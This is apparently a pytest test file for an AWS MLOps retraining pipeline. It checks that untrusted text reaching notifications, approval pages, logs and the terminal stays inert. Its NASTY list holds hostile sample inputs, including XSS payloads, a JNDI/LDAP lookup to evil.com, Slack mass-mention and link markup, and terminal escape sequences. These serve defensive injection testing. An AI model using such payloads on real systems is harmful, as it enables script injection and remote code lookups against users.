"""What events, people and AWS write leaves every channel as text: no line, link, mention, markup or page of theirs."""

from __future__ import annotations

import io
import json
import logging
import re
import unicodedata
from collections.abc import Callable, Iterator
from dataclasses import replace
from html import unescape
from typing import Any, Final
from urllib.parse import quote

import pytest
from awslambdaric.lambda_runtime_log_utils import JsonFormatter
from hypothesis import given, settings
from hypothesis import strategies as st

from ops.terminal import Styled, Terminal
from orchestration import approval_handler, handler
from orchestration.approval_handler import answer
from orchestration.domain.approval_view import sections_of
from orchestration.domain.channel_text import NO_DOMAINS, chat_line, cut, fitted, pasted, plain_line, printed_everywhere
from orchestration.domain.commands import REASON_LIMIT, Place
from orchestration.domain.contracts import Decision, DueKind, Status
from orchestration.domain.messages import Speaker, run_status, signal_decided
from orchestration.domain.notification import Message, Page
from orchestration.domain.page import TEXT_SHOWN
from orchestration.domain.review_page import View, render
from orchestration.domain.stored_model import StoredModel
from orchestration.settings import ApprovalAccess
from orchestration.steps.due_work import attempt
from orchestration.steps.telling import event_detail, message_told, tell
from orchestration.stores.channels_sns import Channels
from tests.unit import stories
from tests.unit.fakes import TRAINING, World, asking, drift, execution_arn, proven, request
from tests.unit.test_approval_page import NOW, Outline, asked, everywhere, signed

quick = settings(max_examples=25)

TOKEN: Final = "Zq7"
"""A mark in every hostile text: what does not show it did not get there."""

NASTY: Final = (
    "<https://evil.com|Look and decide> <!channel>",
    "<!here> <!everyone> <@U012AB3CD> <#C024BE7LR> <!subteam^SAZ94GDB8> <!date^1392734382^x^https://evil.com|y>",
    "https://evil.com/?run=r&nonce=n http://evil.com HTTPS://EVIL.COM ftp://evil.com slack://open //evil.com",
    "evil.com www.evil.com evil.com/login evil.com.json x@evil.com mailto:x@evil.com evil.training evil.xn--p1ai \u0435vil.рф",
    "evil.\u092d\u093e\u0930\u0924/x cafe\u0301.com evil.c\u0301om \U0001f608.to \u2603.net evil\u2024com",
    "evil\u3002com evil\uff0ecom evil\uff61com s3://evil.com/x \\\\evil\\share \\\\\\evil",
    "a\nWhat to do:\n- Look and decide: https://evil.com\r\nrun: forged\u2028run: forged\u2029\x85run: forged\x0b\x0c",
    "*Approved* _by_ ~nobody~ `code` ```block``` __x__ > quoted &gt; quoted &amp;lt; &#60;",
    ":white_check_mark: approved :aws: :a:b: ::x:: @channel @here @ada",
    "> a quotation",
    "[Look](https://evil.com) ![x](https://evil.com/x.png) # Title\n* item\n1. item",
    "\u202eevil\u202c \u2066x\u2069 \u200b\u200d\u2060\ufeff\xad \x1b[2J\x1b]8;;https://evil.com\x07x\x00\x08\x7f\x9b1A",
    "<script>alert(1)</script><img src=x onerror=alert(1)>\"'><svg/onload=alert(1)> javascript:alert(1)",
    "</textarea></style><style>*{display:none}</style>&quot; onfocus=alert(1) autofocus x=&quot;",
    "\ud800 \udfff 😀 Größe \u202e \U000e0041 \ufffe",
    "{% $states.input %} ${jndi:ldap://evil.com/a} {0.__class__} %s %n %(x)s {{7*7}} [/nope] [bold]x",
    "a" + " " * 200 + "What to do: pay",
    "x" * 9000,
    "&" * 3000 + "<" * 3000,
)

texts = st.lists(st.sampled_from(NASTY) | st.text(max_size=40), min_size=1, max_size=4).map("".join)
RUNBOOK: Final = "https://example.com/runbook"
SPEAKER: Final = Speaker(Place("retraining", "us-east-1"), "arn:aws:states:us-east-1:1:stateMachine:m", RUNBOOK)
OURS: Final = re.compile(
    r"(https://example\.com/runbook#[a-z-]+|https://review\.example\.com/\?run=[\w%.-]+(&nonce=[\w-]{43})?"
    r"|https://console\.aws\.amazon\.com/[\w/.?=#:%&-]+)$"
)
"""Addresses that are ours, at the end of a step."""

LINKED: Final = re.compile(
    r"\w[\w+.-]*://(?<!\bs3://)|\\\\\w|[\w\u0080-\U0010ffff-][.\u2024\u3002\uff0e\uff61]"
    r"(com|net|org|io|to|training|xn--\w+|рф|भारत|c\u0301om)(?![^\W_])",
    re.IGNORECASE,
)
"""What programs make a link of without being asked: a scheme, a Windows share, a name under a top-level domain."""


def test_the_patterns_of_this_page_find_what_they_are_to_find() -> None:
    assert all(LINKED.search(text) for text in NASTY[:6])
    assert len(set(re.findall(r"\w+", " ".join(match[0] for match in LINKED.finditer(NASTY[3]))))) > 5


# As they leave: SNS.


class Heard:
    """SNS and EventBridge that keep what they got, and refuse what the real ones refuse."""

    def __init__(self) -> None:
        self.published: list[dict[str, Any]] = []
        self.entries: list[dict[str, Any]] = []

    def publish(self, **asked: Any) -> None:
        """Source: SNS, Publish: limits of subject and message, and of a message attribute."""
        assert 0 < len(asked["Subject"]) < 100
        assert asked["Subject"].isascii()
        assert asked["Subject"].isprintable()
        assert len(asked["Message"].encode()) <= 256 * 1024
        for attribute in asked["MessageAttributes"].values():
            assert attribute["StringValue"].isprintable()
        self.published.append(asked)

    def put_events(self, **asked: Any) -> dict[str, Any]:
        """Source: EventBridge, PutEvents: an entry has at most 256 KB."""
        for entry in asked["Entries"]:
            assert len(entry["Detail"].encode()) < 250_000
            self.entries.append(json.loads(entry["Detail"]))
        return {"FailedEntryCount": 0}


def sent(message: Message) -> tuple[str, str, dict[str, Any]]:
    """Subject, mail and chat notification of a message, as SNS gets them."""
    heard: Any = Heard()
    Channels(heard, heard, operations_topic="operations", escalation_topic="escalation").tell(message)
    assert len({published["Message"] for published in heard.published}) == 1
    body = json.loads(heard.published[0]["Message"])
    return heard.published[0]["Subject"], body["default"], json.loads(body["https"])


def assert_mail(message: Message, mail: str) -> None:
    """Its lines are ours, and nothing in it can be followed but the addresses of its steps."""
    lines = mail.split("\n")
    facts, steps = message.facts[:30], message.next_steps[:10]
    links = message.links
    known = (1 + len(facts) if facts else 0) + (2 + len(steps) if steps else 0) + (2 + len(links) if links else 0)
    assert len(lines) == 1 + known
    for line, (name, _) in zip(lines[2:], facts, strict=False):
        assert line.startswith(f"{fitted(name, 100, plain_line)}: ")
    pages = [step for step in steps if isinstance(step, Page)] + list(links)
    for line in lines:
        assert line.isprintable()
        assert "  " not in line
        if any(line == f"- {page.label}: {page.address}" for page in pages):
            assert OURS.search(line), line
        else:
            assert not LINKED.search(line), line


def assert_no_markup(line: str) -> None:
    """Nothing in a line that Slack gives a meaning. Source: Slack, "Formatting message text"."""
    assert line.isprintable()
    assert not re.search(r"[<>*~`]", line), line
    assert not re.search(r"&(?!amp;|lt;|gt;)", line), line
    assert not re.search(r"(?<![^\W_])_(?=\S)|(?<=\S)_(?![^\W_])", line), line
    assert not re.search(r":[\w+'-]+:", line), line
    assert not re.search(r"(?<!\w)@\w", line), line
    assert not re.match(r" ?(>|&gt;)", line), line
    assert not LINKED.search(unescape(line)), line


def assert_chat(message: Message, body: dict[str, Any]) -> None:
    """Its markup is ours."""
    content = body["content"]
    assert (len(content["title"]) <= 250, len(content["description"]) <= 8000) == (True, True)
    mark, _, title = content["title"].partition(" ")
    assert re.fullmatch(r":[a-z_]+:", mark)
    assert_no_markup(title)
    sentence, *facts = content["description"].split("\n")
    links = [f"{page.label}: {page.address}" for page in message.links]
    assert facts[len(facts) - len(links) :] == links
    assert all(map(OURS.search, links))
    facts = facts[: len(facts) - len(links)]
    assert_no_markup(sentence)
    for line, (name, _) in zip(facts, message.facts, strict=False):
        start = f"*{fitted(name, 100, chat_line)}*: "
        if not line.startswith(start):
            assert re.fullmatch(r"\([\d,]+ more facts? left out\)", line)
        assert_no_markup(line.removeprefix(start))
    for step, meant in zip(content.get("nextSteps", ()), message.next_steps, strict=False):
        assert len(step) <= 350
        assert_no_markup(OURS.sub("", step) if isinstance(meant, Page) else step)


def assert_harmless(message: Message) -> str:
    """Everything at once; gives what was sent."""
    subject, mail, chat = sent(message)
    assert not LINKED.search(subject), subject
    assert_mail(message, mail)
    assert_chat(message, chat)
    return subject + mail + json.dumps(chat, ensure_ascii=False)


@quick
@given(
    st.builds(
        Message,
        model=st.none() | st.sampled_from(["churn", "a" * 63]),
        status=st.sampled_from([*map(str, Decision), *map(str, Status)]),
        title=texts,
        sentence=texts,
        facts=st.lists(st.tuples(texts, texts), max_size=4).map(tuple),
        next_steps=st.lists(texts | st.just(Page("Runbook", f"{RUNBOOK}#frozen")), max_size=4).map(tuple),
        escalates=st.booleans(),
        thread=st.sampled_from(["", "run-1"]),
    )
)
def test_no_text_of_a_message_does_anything(message: Message) -> None:
    assert_harmless(message)


@pytest.mark.parametrize("text", NASTY)
def test_no_text_does_anything_wherever_it_stands(text: str) -> None:
    record = {"decision": "HOLD", "reason": "BROKEN_DATA", "sentence": text, "model": "churn", "signal_id": "s"}
    message = signal_decided(SPEAKER, record, {"metric": text, "run": "run-1"})
    assert_harmless(message)
    assert_harmless(
        run_status(
            SPEAKER,
            status=Status.FAILED,
            run_id="run-1",
            model="churn",
            sentence=f"It failed: {text}",
            facts={"comment": text},
            deciding=(text,),
        )
    )


def test_what_we_write_ourselves_stays_as_it_is() -> None:
    """What people copy out of a mail: commands, keys and names."""
    for ours in (
        "retraining resume --scope model:fraud --stack retraining --region eu-west-1",
        "retraining unfreeze --model fraud --reason '<why>' --stack retraining --region eu-west-1",
        "retraining approve 'it'\"'\"'s' --stack retraining --region eu-west-1",
        "s3://automation/manifests/fraud/run-1.json",
        "arn:aws:sts::111122223333:assumed-role/Reviewer_1/ada",
        "set training.target in policies/fraud.json, or promotion.endpoint, or budget.runs",
        "At 4.50 times its threshold it is critical: retrain. It waits.",
        "champion_model_data_uri 0.81 -> 0.9 (+0.09), 100 %, 5 < 6",
    ):
        assert plain_line(ours) == ours
    assert chat_line("make resume SCOPE=model:fraud lifts it.") == "make resume SCOPE=model:fraud lifts it."
    assert unescape(chat_line("run_id 5 < 6 & 7 > 2")) == "run_id 5 < 6 & 7 > 2"


def test_an_underscore_that_a_chat_would_take_for_a_mark_is_written_otherwise_for_the_shell() -> None:
    command = "retraining approve _a__b_ '' 'c d_' e_f"
    written = r"retraining approve $'\137'a$'\137\137'b$'\137' '' 'c d'$'\137' e_f"
    assert pasted(command) == written
    assert pasted("retraining approve a_b") == "retraining approve a_b"


@pytest.mark.parametrize(("character", "printed"), [("\ue000", False), ("\u2029", False), (" ", True), ("a", True)])
def test_what_every_version_of_python_prints_is_printed(character: str, printed: bool) -> None:
    assert printed_everywhere(character) is printed


@pytest.mark.parametrize("name", sorted(NO_DOMAINS))
def test_a_name_of_ours_that_ends_like_a_host_is_left_only_where_nobody_can_own_it(name: str) -> None:
    assert plain_line(f"x.{name}") == f"x.{name}"
    assert plain_line(f"evil.com.{name}") == f"evil[.]com.{name}"
    assert plain_line(f"x.{name}x.com") == f"x[.]{name}x[.]com"


def test_what_has_just_room_is_left_whole() -> None:
    assert cut("x" * 40, 40) == fitted("x" * 40, 40, plain_line) == "x" * 40


@quick
@given(texts, st.integers(40, 9000))
def test_what_is_left_out_is_counted_and_never_cuts_an_escape(text: str, limit: int) -> None:
    short = cut(text, limit)
    assert len(short) <= limit
    if len(text) > limit:
        start, _, told = short.rpartition("... (")
        assert text.startswith(start)
        assert int(told.split(" ")[0].replace(",", "")) == len(text) - len(start)
    else:
        assert short == text
    line = fitted(text, limit, chat_line)
    assert len(line) <= limit
    assert_no_markup(line)


def test_a_message_of_everything_at_its_longest_is_taken_and_says_what_it_leaves_out() -> None:
    """Of four bytes each, the longest characters there are."""
    long = "😀" * 50_000
    message = Message("m" * 63, "FAILED", long, long, ((long, long),) * 60, (long,) * 40, escalates=True)
    subject, mail, chat = sent(message)
    assert subject.endswith("...")
    assert "(30 more facts left out)" in mail
    assert "(30 more steps left out)" in mail
    assert re.search(r"\.\.\. \([\d,]+ more characters\)$", mail.split("\n")[0])
    assert re.search(r"\n\(\d+ more facts left out\)$", chat["content"]["description"])
    assert chat["content"]["nextSteps"][-1] == "(30 more steps left out)"


def test_an_address_is_whole_or_left_out_and_holds_nothing_that_could_end_it() -> None:
    step = Page("Runbook", 'https://example.com/run book|<"\n>#' + "x" * 40)
    assert step.address == "https://example.com/run%20book%7C%3C%22%0A%3E#" + "x" * 40
    too_long = Message(
        "churn", "FAILED", "t", "s", next_steps=(Page("Look and decide", "https://example.com/" + "x" * 330),)
    )
    (told,) = sent(too_long)[2]["content"]["nextSteps"]
    assert told == "Look and decide: the address is too long to be shown here."
    assert "x" * 330 in sent(too_long)[1]


def test_a_message_on_the_due_list_keeps_its_addresses_and_one_of_the_release_before_is_told_as_text(
    world: World,
) -> None:
    message = Message("churn", "FAILED", "t", "s", next_steps=("Look.", Page("Runbook", f"{RUNBOOK}#frozen")))
    item = message_told(message, NOW)
    world.table.add_due(item)
    (kept,) = world.due(DueKind.TELL)
    assert attempt(world.ports, kept, tell)
    assert world.channels.messages == [message]

    before = {**item.data["message"], "next_steps": ["Look.", f"Runbook: {RUNBOOK}#frozen"]}
    assert attempt(world.ports, replace(item, data={**item.data, "message": before}), tell)
    assert sent(world.channels.messages[-1])[1].endswith("- Look.\n- Runbook: https[:]//example[.]com/runbook#frozen")


def test_programs_get_a_reason_as_it_is_and_no_longer_than_an_event_may_be() -> None:
    """Source: EventBridge, PutEvents: 256 KB an entry, which a larger one would be refused for, each time it is told."""
    told: dict[str, Any] = {"run_id": "run-1", "model": "churn", "status": "FAILED", "previous_status": None}
    more: dict[str, Any] = {"event_id": "run-1:FAILED", "severity": None, "manifest_uri": None}

    assert event_detail(reason=NASTY[0], **told, **more)["reason"] == NASTY[0]
    long = event_detail(reason="😀" * 300_000, **told, **more)["reason"]
    assert len(long) == 4000
    assert long.endswith(" more characters)")


# Through every place where a foreign text comes in.


def _drift(world: World, text: str) -> None:
    _admit(world, drift(metric=text, dedupe_key=text, reason=text, report_uri=text, dataset={"uri": text}))


def _unreadable_drift(world: World, text: str) -> None:
    _admit(world, drift(model=text))


def _stranger(world: World, text: str) -> None:
    _admit(world, {"source": text, "detail-type": text, "detail": {text: text}})


def _alarm(world: World, text: str) -> None:
    detail = {
        "alarmName": f"drift/churn/{text}",
        "state": {"value": "ALARM", "reason": text, "timestamp": "2026-03-02T11:59:00Z"},
        "configuration": {"description": text},
    }
    _admit(
        world, {"source": "aws.cloudwatch", "detail-type": "CloudWatch Alarm State Change", "detail": detail, "id": "1"}
    )


def _monitor(world: World, text: str) -> None:
    world.sagemaker.jobs["monitor"] = {
        "ProcessingJobName": "monitor",
        "ProcessingJobStatus": "Failed",
        "FailureReason": text,
        "MonitoringScheduleArn": "arn:aws:sagemaker:us-east-1:111122223333:monitoring-schedule/churn",
        "Environment": {"sagemaker_endpoint_name": "churn"},
    }
    detail = {"ProcessingJobName": "monitor", "ProcessingJobStatus": "Failed", "FailureReason": text}
    _admit(world, {"source": "aws.sagemaker", "detail-type": "SageMaker Processing Job State Change", "detail": detail})


def _manual(world: World, text: str) -> None:
    detail = {"model": "churn", "reason": text, "requested_by": text}
    _admit(world, {"source": "mlops.drift", "detail-type": "Retraining Requested", "id": "1", "detail": detail})


def _decision_file(world: World, text: str) -> None:
    uri = f"s3://{world.settings.decision_bucket}/{world.settings.decision_key}"
    # A NUL ends the reading before anything of the file could be shown.
    text = text[:400].replace(chr(34), chr(39)).replace("\0", "")
    world.bucket.put(uri, f'retraining_required\n"{text}"\n'.encode(errors="replace"))
    _admit(world, {})


def _legal(text: str) -> str:
    """A text without what no JSON document of a team is read with."""
    return "".join(character for character in text if character != "\0" and not 0xD800 <= ord(character) <= 0xDFFF)


def _policy(world: World, text: str) -> None:
    world.put("policies/churn.json", {"schema_version": 1, "model": "churn", _legal(text): _legal(text)})
    _admit(world, drift())


def _reason(text: str) -> str:
    """What is kept of a text as a reason; a longer one is refused."""
    return "".join(filter(str.isprintable, text))[:REASON_LIMIT]


def _pause(world: World, text: str) -> None:
    stories.operate(world, "pause", scope="model:churn", reason=_reason(text))
    _admit(world, drift())
    stories.operate(world, "unpause", scope="model:churn")


def _unfreeze(world: World, text: str) -> None:
    stories.frozen(world, StoredModel("fraud", frozen_reason=text.encode(errors="replace").decode()))
    stories.operate(world, "unfreeze", model="fraud", reason=_reason(text))


def _comment(world: World, text: str) -> None:
    stories.asked(world)
    ballot = {"action": "decide", "run_id": "run-1", "decision": "APPROVED", "comment": text[:1000]}
    approval_handler.run_action(proven(ballot, "ana", world.clock()), world.ports)


def _training(world: World, text: str) -> None:
    stories.training(world)
    world.executions.end(stories.training_arn(), "FAILED", error=text[:200], cause=text)
    stories.tell_ended(world, stories.training_arn())
    stories.do(world, "close")


def _metrics(world: World, text: str) -> None:
    text = _legal(text)
    report = {"binary_classification_metrics": {"auc": {"value": 0.1}, text: {"value": 0.2}}}
    stories.trained(
        world, report=report, evaluation={"metric": text[:60] or "x", "minimum": 0.7, "lower_is_better": False}
    )
    stories.do(world, "evaluate")
    stories.do(world, "close")


def _failure(world: World, text: str) -> None:
    stories.decided(world)
    cause = json.dumps({"errorMessage": text, "errorType": "KeyError"})
    handler.run_action({"action": "close", **asking(failure={"error": "KeyError", "cause": cause})}, world.ports)


def _undecided(world: World, text: str) -> None:
    failure = {"error": text, "cause": text}
    handler.run_action({"action": "close", **asking(failure=failure, event={"x": text})}, world.ports)


PLACES: Final[dict[str, Callable[[World, str], None]]] = {
    "a drift report": _drift,
    "a model's name": _unreadable_drift,
    "an event nobody understands": _stranger,
    "an alarm": _alarm,
    "a monitor's failure": _monitor,
    "a manual request": _manual,
    "the decision file": _decision_file,
    "a policy": _policy,
    "an operator's reason": _pause,
    "the reason of a thaw": _unfreeze,
    "a reviewer's comment": _comment,
    "a training's failure": _training,
    "a metric": _metrics,
    "a failure of ours": _failure,
    "a failure before the decision": _undecided,
}


def _admit(world: World, event: Any) -> None:
    handler.run_action(request(event), world.ports)


@pytest.fixture
def logged() -> Iterator[list[str]]:
    """The lines of the log, as Lambda writes them."""
    lines: list[str] = []

    class Lines(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            lines.append(self.format(record))

    listening, log = Lines(), logging.getLogger("orchestration")
    listening.setFormatter(JsonFormatter())
    before = log.level
    log.addHandler(listening)
    log.setLevel(logging.INFO)
    yield lines
    log.removeHandler(listening)
    log.setLevel(before)


@pytest.mark.threat("channel-injection")
@pytest.mark.parametrize("place", PLACES)
def test_what_comes_in_leaves_as_text(place: str, new_world: Callable[..., World], logged: list[str]) -> None:
    arrived = 0
    for text in NASTY:
        world = new_world()
        PLACES[place](world, TOKEN + text)
        out = "".join(map(assert_harmless, world.channels.messages))
        heard: Any = Heard()
        channels = Channels(heard, heard, operations_topic="operations", escalation_topic="escalation")
        for detail in world.channels.events:
            channels.emit(detail, resources=[])
        arrived += TOKEN.lower() in out.lower()
    assert arrived == len(NASTY), "the texts did not get anywhere"
    for line in logged:
        assert line.index("\n") == len(line) - 1
        assert len(line.encode()) < 256 * 1024
        assert re.fullmatch(r"[A-Z][A-Za-z]+", json.loads(line)["message"])


# The page and its JSON.


@quick
@given(texts.map(TOKEN.__add__))
def test_no_text_of_a_page_makes_an_element_an_attribute_or_a_hidden_character(text: str) -> None:
    plain, hostile = (Outline(page_of(value)) for value in ("x", text))
    assert hostile.open == []
    assert [(tag, sorted(attributes)) for tag, attributes in hostile.tags] == [
        (tag, sorted(attributes)) for tag, attributes in plain.tags
    ]
    assert all(
        # What no version of Python knows yet hides nothing, and is the same on every machine.
        each.isprintable() or unicodedata.category(each) == "Cn"
        for each in re.sub("<style>.*</style>", "", page_of(text), flags=re.DOTALL).replace("\n", "")
    )


def page_of(text: str) -> str:
    """A page with a text in every place."""
    return render(
        View(
            "t", "k " + text, "n " + text, "warn", "c " + text, sections_of(asked(**everywhere(text)), NOW), None, text
        )
    )


def test_50_000_metrics_and_gates_make_a_page_of_a_part_and_say_of_how_many() -> None:
    many = {f"metric {number}": 0.5 for number in range(50_000)}
    gates = [
        {"name": f"gate {n}", "value": 1, "comparison": ">=", "bound": 0, "passed": n != 49_999} for n in range(50_000)
    ]
    inputs = {f"key {number}": "v" * 5000 for number in range(50_000)}
    large = asked(
        data={"approvals_needed": 1, "why": "w" * 100_000, "verdict": {"sentence": "s" * 100_000, "gates": gates}},
        evaluation={"verdict": {"candidate_metrics": many, "champion_metrics": many}},
        manifest={"training": {"input": inputs}},
    )
    view = View("t", "k", "w" * 100_000, sections=sections_of(large, NOW))
    html, document = render(view), json.dumps(view.as_json())

    assert len(html) < 200_000
    assert len(document) < 200_000
    for out in (html, document):
        assert out.count("(50 of 50,000 shown)") >= 2
        assert "gate 49999" in out, "what failed is what has to be seen"
        assert "49,988 more; the manifest has them" in out
        assert re.search(r"s{900,}\.\.\. \(99,\d{3} more characters\)", out)
        assert re.search(r"w{3900,}\.\.\. \(96,\d{3} more characters\)", out)
    assert TEXT_SHOWN == 1000


def test_a_cell_is_coloured_where_the_loop_says_pass_and_nowhere_else() -> None:
    verdict = {"gates": [{"name": "auc bound", "comparison": ">=", "passed": False}]}
    votes = [{"by": "pass", "answer": "pass", "via": "pass", "comment": "pass", "at": NOW.isoformat()}]
    shown_page = Outline(
        render(View("t", "k", "n", sections=sections_of(asked(data={"verdict": verdict, "votes": votes}), NOW)))
    )
    coloured = [{"pass", "fail"} & set((cell["class"] or "").split()) for cell in shown_page.all("td")]
    assert [classes for classes in coloured if classes] == [{"fail"}]


@pytest.mark.threat("channel-injection")
@pytest.mark.parametrize("text", NASTY)
def test_the_page_of_a_hostile_run_is_a_page(text: str, new_world: Callable[..., World]) -> None:
    world = new_world()
    noted = {"target": TRAINING, "input": {"note": _legal(text)}}
    stories.decided(world, approval={"training": "always"}, training=noted)
    stories.do(world, "park", kind="approval", subject="training", token="token")
    browser = signed("GET")
    browser["headers"] = {"Accept": "text/html"}

    told, data = answer(browser, world.ports), answer(signed("GET"), world.ports)

    assert told["headers"]["Content-Type"] == "text/html; charset=utf-8"
    assert Outline(told["body"]).open == []
    assert data["headers"]["Content-Type"] == "application/json"
    assert data["headers"]["X-Content-Type-Options"] == "nosniff"
    assert json.loads(data["body"])["run_id"] == "run-1"


# The terminal.


def test_a_terminal_says_how_much_of_a_text_it_left_out() -> None:
    out = io.StringIO()

    Terminal(file=out).say("x" * 9_000, Styled("bold", "y" * 50_000))

    assert out.getvalue().startswith("x" * 9_000 + "y" * 9_000)
    assert re.search(r"y\.\.\.\s\(40,0\d\d more characters\)\n$", out.getvalue())


# The open address.


class TestNothingIsReadForWhatCannotBeALink:
    """With LINK anybody may ask. What has not the shape of a link costs no call of AWS, and is no failure."""

    NONCE: Final = "A" * 43
    GARBAGE: Final = (
        ("GET", "run=" + "r" * 81 + "&nonce=" + NONCE, None, 404),
        ("GET", "run=" + "r" * 100_000 + "&nonce=" + NONCE, None, 404),
        ("GET", "run=a%2Fb&nonce=" + NONCE, None, 404),
        ("GET", "run=a%00b&nonce=" + NONCE, None, 404),
        ("GET", "run=a%20b&nonce=" + NONCE, None, 404),
        ("GET", "run=%3Cscript%3E&nonce=" + NONCE, None, 404),
        ("GET", "run=run-1", None, 404),
        ("GET", "run=run-1&nonce=", None, 404),
        ("GET", "run=run-1&nonce=" + "A" * 42, None, 404),
        ("GET", "run=run-1&nonce=" + "A" * 44, None, 404),
        ("GET", "run=run-1&nonce=" + "A" * 42 + "%0A", None, 404),
        ("GET", "run=run-1&nonce=" + "A" * 42 + ".", None, 404),
        ("HEAD", "run=run-1&nonce=x", None, 404),
        ("GET", "", None, 400),
        ("GET", "run=run-1&run=run-2&nonce=" + NONCE, None, 400),
        ("GET", "run=run-1&nonce=" + NONCE + "&x=1", None, 400),
        ("GET", "&".join(["run=run-1"] * 300), None, 404),
        ("GET", "run=%ff&nonce=" + NONCE, None, 400),
        ("PUT", "run=run-1&nonce=" + NONCE, None, 405),
        ("OPTIONS", "run=run-1", None, 405),
        ("", "run=run-1", None, 405),
        ("POST", "run=run-1", "subject=training&decision=APPROVED", 404),
        ("POST", "run=run-1", "subject=training&decision=APPROVED&nonce=short", 404),
        ("POST", "run=run-1", "subject=training&decision=MAYBE&nonce=" + NONCE, 400),
        ("POST", "run=run-1", "subject=slot&decision=APPROVED&nonce=" + NONCE, 400),
        ("POST", "run=run-1", "subject=training&decision=APPROVED&nonce=" + NONCE + "&comment=" + "x" * 1001, 400),
        ("POST", "run=run-1", "x" * 16_385, 413),
        ("POST", "run=run-1", "x" * 1_000_000, 413),
        ("POST", "run=" + "r" * 81, "subject=training&decision=APPROVED&nonce=" + NONCE, 404),
    )

    @pytest.mark.parametrize(("method", "query", "body", "status"), GARBAGE)
    def test_garbage_is_refused_without_a_call(
        self, method: str, query: str, body: str | None, status: int, new_world: Callable[..., World], logged: list[str]
    ) -> None:
        world = new_world(approval_access=ApprovalAccess.LINK)
        world.outside.live()

        told = answer({**signed(method, body, None), "rawQueryString": query}, world.ports)

        assert told["statusCode"] == status
        assert world.outside.calls == []
        assert logged == []

    def test_a_link_of_the_right_shape_costs_three_reads_at_most(self, new_world: Callable[..., World]) -> None:
        world = new_world(approval_access=ApprovalAccess.LINK)
        world.outside.live()

        told = answer({**signed("GET", None, None), "rawQueryString": f"run=run-1&nonce={self.NONCE}"}, world.ports)

        assert told["statusCode"] == 403
        assert world.outside.calls == ["GetItem"] * 3

    @pytest.mark.parametrize("access", [ApprovalAccess.IAM, ApprovalAccess.LINK])
    @quick
    @given(method=st.sampled_from(["GET", "HEAD", "POST"]), query=st.text(max_size=200), body=st.text(max_size=200))
    def test_no_garbage_is_a_failure_that_would_page_anybody(
        self, access: ApprovalAccess, method: str, query: str, body: str
    ) -> None:
        """Alarms look at errors and at answers with 5xx; a request that is refused is neither."""
        world = World(approval_access=access)
        asked_for = {**signed(method, None), "rawQueryString": query, "body": body, "isBase64Encoded": False}
        assert 400 <= answer(asked_for, world.ports)["statusCode"] < 500

    @pytest.mark.parametrize("run_id", ["r" * 80, "ü" * 80, "it's(1)!@+=.-_", "5d1b7c5e-8d0a-4d3c-8f10-2f5f0a6b2c11"])
    def test_every_name_an_execution_may_have_is_looked_up(self, run_id: str, new_world: Callable[..., World]) -> None:
        world = new_world()
        world.executions.statuses[execution_arn(run_id)] = "RUNNING"
        world.outside.live()
        answer({**signed("GET"), "rawQueryString": f"run={quote(run_id, safe='')}"}, world.ports)

        assert "GetItem" in world.outside.calls
